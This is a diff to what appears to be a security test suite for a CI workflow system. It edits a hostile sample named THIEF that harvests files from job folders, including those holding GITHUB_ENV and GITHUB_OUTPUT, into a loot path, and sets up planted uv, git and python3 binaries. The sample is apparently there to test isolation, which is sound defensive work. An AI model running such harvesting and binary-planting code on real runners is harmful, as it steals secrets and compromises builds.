@@ -50,7 +50,7 @@ def commands(run: actions.Run, *jobs: str) -> set[str]:
 # --- A feedstock that tries everything at once, registered by its own workflow ---
 
 THIEF = '''
-import json, os, pathlib, subprocess
+import contextlib, itertools, json, os, pathlib, subprocess
 
 LOOT = pathlib.Path({loot!r})
 
@@ -77,9 +77,12 @@ if "PREFECT__FLOW_RUN_ID" not in os.environ:
     folders += [pathlib.Path(value).parent for name, value in job.items() if name in ("GITHUB_ENV", "GITHUB_OUTPUT")]
     files = {{}}
     for folder in folders:
-        for path in list(folder.rglob("*"))[:5000]:
-            if path.is_file() and path.stat().st_size < 100_000 and ".venv" not in path.parts:
-                files[str(path)] = path.read_text(errors="replace")
+        # Others work in these folders meanwhile: what vanishes under the thief's hands is not loot.
+        reach = (pathlib.Path(root, name) for root, _, names in os.walk(folder) for name in names)
+        for path in itertools.islice(reach, 5000):
+            with contextlib.suppress(OSError):
+                if path.is_file() and path.stat().st_size < 100_000 and ".venv" not in path.parts:
+                    files[str(path)] = path.read_text(errors="replace")
     bin = LOOT.with_name("planted")
     bin.mkdir(exist_ok=True)
     for name in ("uv", "git", "python3"):
